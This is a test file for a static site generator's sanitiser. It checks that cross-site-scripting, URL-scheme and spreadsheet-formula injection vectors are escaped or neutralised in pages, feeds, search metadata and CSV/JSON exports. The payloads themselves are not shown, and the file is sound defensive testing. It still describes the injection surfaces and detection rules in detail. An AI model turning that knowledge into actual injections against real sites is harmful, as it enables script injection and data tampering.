    assert built.aliases <= set(scanned), "every alias has its redirect page"
    assert [problem for scan in scanned.values() for problem in scan.problems] == []


def test_search_metadata_comes_only_from_the_theme(scanned):
    """Each practice page carries exactly the theme's Pagefind filters, none forged by its body or fields."""
    wrong = []
    for i in range(len(VECTORS)):
        for folder, kind, expected in (
            ("case-studies", "c", {"type", "topic", "cynefin", "country", "city", "year"}),
            ("events", "e", {"type", "topic", "country", "city", "method", "year"}),
        ):
            path = f"{folder}/{kind}{i:03d}/index.html"
            scan = scanned[path]
            if set(scan.filters) != expected or scan.filters.count("type") != 1 or scan.filters.count("city") != 1:
                wrong.append(f"{path}: filters {scan.filters}")
            if (
                not set(scan.metas) <= {"title", "summary", "city", "domain", "image", "image_alt"}
                or scan.metas.count("title") != 1
            ):
                wrong.append(f"{path}: meta {scan.metas}")
            if scan.bodies != 1:
                wrong.append(f"{path}: {scan.bodies} data-pagefind-body elements")
    assert wrong == []


def test_feeds_and_sitemap_are_well_formed_and_carry_text_only(built):
    feeds = sorted(built.out.rglob("*.xml"))
    assert len(feeds) >= 3
    atom = "{http://www.w3.org/2005/Atom}"
    titles = set()
    for path in feeds:
        root = ET.fromstring(path.read_bytes())  # raises on anything that is not well-formed XML
        for element in root.iter():
            assert element.tag.startswith(
                ("{http://www.w3.org/2005/Atom}", "{http://www.sitemaps.org/schemas/sitemap/0.9}")
            ), (path, element.tag)
            if element.tag in (f"{atom}title", f"{atom}summary", f"{atom}content", f"{atom}rights", f"{atom}subtitle"):
                assert element.get("type", "text") == "text", (path, element.tag, element.get("type"))
            for name in ("href", "src", "uri"):
                if element.get(name) is not None:
                    assert not _scripty(element.get(name)), (path, element.tag, element.get(name))
                    assert element.get(name).startswith("https://example.org/library/"), (path, element.get(name))
            if element.tag == f"{atom}entry":
                titles.add(element.find(f"{atom}title").text)
    assert {" ".join(v.split()) for v in VECTORS} & titles, "the feed keeps hostile titles as text"


def _words(text: str) -> list[str]:
    return text.split()  # line breaks in one-line fields become spaces


def test_data_exports_keep_the_text_as_data(built):
    records = {
        r["slug"]: r for r in json.loads((built.out / "data/practices.json").read_text(encoding="utf-8"))["records"]
    }
    text = (built.out / "data/practices.csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""))}
    for i, vector in enumerate(VECTORS):
        for slug in (f"c{i:03d}", f"e{i:03d}"):
            folder = "case-studies" if slug[0] == "c" else "events"
            if "title" in built.rejected.get(f"content/{folder}/{slug}.md", ()):
                continue
            assert _words(records[slug]["title"]) == _words(vector), slug
            cell = rows[slug]["title"]
            if records[slug]["title"][:1] in "=+-@":  # a formula-like cell is made text for spreadsheets
                assert cell == "'" + records[slug]["title"], slug
            else:
                assert _words(cell) == _words(vector), slug
            assert records[slug]["url"] == f"https://example.org/library/{folder}/{slug}/"  # absolute on base_url


def test_hostile_text_appears_escaped_in_every_page_of_its_record(built):
    """The raw vector never appears in the HTML source of its pages; its escaped form does (for the title)."""
    leaks = []
    for i, vector in enumerate(HTML_VECTORS):
        if "<" not in vector:
            continue
        for path in (f"case-studies/c{i:03d}/index.html", f"events/e{i:03d}/index.html"):
            html = (built.out / path).read_text(encoding="utf-8")
            if vector.strip() in html:
                leaks.append((path, vector))
    assert leaks == []


def test_offline_build_is_as_safe(built, tmp_path, monkeypatch):
    """The offline copy (file://, its own search index script) passes the same checks; every 8th vector."""
    shutil.copytree(built.root / "content", tmp_path / "content")
    for i in range(len(VECTORS)):
        if i % 8:
            (tmp_path / f"content/case-studies/c{i:03d}.md").unlink()
            (tmp_path / f"content/events/e{i:03d}.md").unlink()
    monkeypatch.chdir(tmp_path)
    build_site(
        BuildOptions(content_dir=Path("content"), out_dir=Path("offline"), search=False, offline=True), environ=ENVIRON
    )
    out = tmp_path / "offline"
    scans = scan_site(out, frozenset(p for p in built.aliases if (out / p).exists()))
    assert [problem for scan in scans.values() for problem in scan.problems] == []
    index = out / "search/offline-index.js"
    if index.exists():
        prefix, _, rest = index.read_text(encoding="utf-8").partition("=")
        assert prefix.strip() == "window.PRACTICE_SEARCH"
        data = json.loads(rest.strip().removesuffix(";"))  # pure data: nothing but one JSON value is executed
        assert data["documents"]


# ---------------------------------------------------------------- the sanitiser on its own


@pytest.fixture(scope="module")
def renderer() -> MarkdownRenderer:
    return MarkdownRenderer()


@pytest.mark.parametrize("vector", HTML_VECTORS + PAGEFIND_VECTORS + MARKDOWN_VECTORS)
def test_sanitised_body_has_nothing_script_capable(renderer, vector):
    html = renderer.render(f"{vector}\n\nText {vector} text.\n\n## Heading\n\n{vector}\n").html
    page = f'<!DOCTYPE html><html><head><title>t</title></head><body><main id="main"><div class="prose">{html}</div></main></body></html>'
    assert page_problems("body", page.encode(), set(), THEME_IDS) == []


@pytest.mark.parametrize("url", URL_VECTORS)
def test_sanitised_links_keep_only_http_https_mailto_and_relative_urls(renderer, url):
    html = renderer.render(body_for(url, 0)).html
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in _elements(tree):
        for name in ("href", "src"):
            value = element.get(name)
            if value is None:
                continue
            cleaned = _CONTROL.sub("", value).lower()
            assert not _scripty(value), (url, value)
            scheme = re.match(r"^([a-z][a-z0-9+.-]*):", cleaned)
            assert scheme is None or scheme[1] in ("http", "https", "mailto"), (url, value)


def test_markdown_features_survive_the_sanitiser(renderer):
    html = renderer.render(
        "# Title\n\n## 杭州 bikes\n\nText[^1] with [a link](https://example.org/x?a=1&b=2), <info@example.org>,"
        " [relative](../other/) and [mail](mailto:info@example.org).\n\n[^1]: The note.\n\n"
        "| left | right |\n|:-----|------:|\n| a | b |\n\n- [x] done\n- [ ] to do\n\n"
        '<p dir="rtl" lang="ar">مرحبا</p>\n\n~~gone~~ and https://example.org/bare\n\n'
        "```python\nprint('<hi>')\n```\n"
    ).html
    assert '<h2 id="杭州-bikes">杭州 bikes</h2>' in html
    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>' in html
    assert '<li id="fn:1">' in html and 'class="footnote-backref" href="#fnref:1"' in html
    assert '<a href="https://example.org/x?a=1&amp;b=2">a link</a>' in html
    assert '<a href="mailto:info@example.org">' in html and '<a href="../other/">relative</a>' in html
    assert '<th align="left">left</th>' in html and '<td align="right">b</td>' in html
    assert (
        '<ul class="task-list">' in html
        and '<li class="task-list-item"><input type="checkbox" disabled="" checked=""> done</li>' in html
    )
    assert '<p dir="rtl" lang="ar">مرحبا</p>' in html
    assert "<del>gone</del>" in html and '<a href="https://example.org/bare">' in html
    assert "<code class=\"language-python\">print('&lt;hi&gt;')" in html


@pytest.mark.parametrize("theme_id", sorted(THEME_IDS))
def test_ids_of_the_theme_are_renamed_in_bodies(renderer, theme_id):
    """A heading or element id that equals one of the theme's ids is prefixed; links to it follow."""
    html = renderer.render(f'## Heading {{: #{theme_id} }}\n\n<p id="{theme_id}">x</p>\n\n[back](#{theme_id})\n').html
    assert f'id="{theme_id}"' not in html
    assert f'<h2 id="content-{theme_id}">' in html and f'<p id="content-{theme_id}">' in html
    assert f'href="#content-{theme_id}"' in html


def test_ordinary_heading_ids_are_kept(renderer):
    html = renderer.render(
        "## Starting point\n\n[up](#starting-point) [fn](#fn:1)\n\n## Main street {: #main-street }\n"
    ).html
    assert '<h2 id="starting-point">' in html and 'href="#starting-point"' in html and 'href="#fn:1"' in html
    assert '<h2 id="main-street">' in html
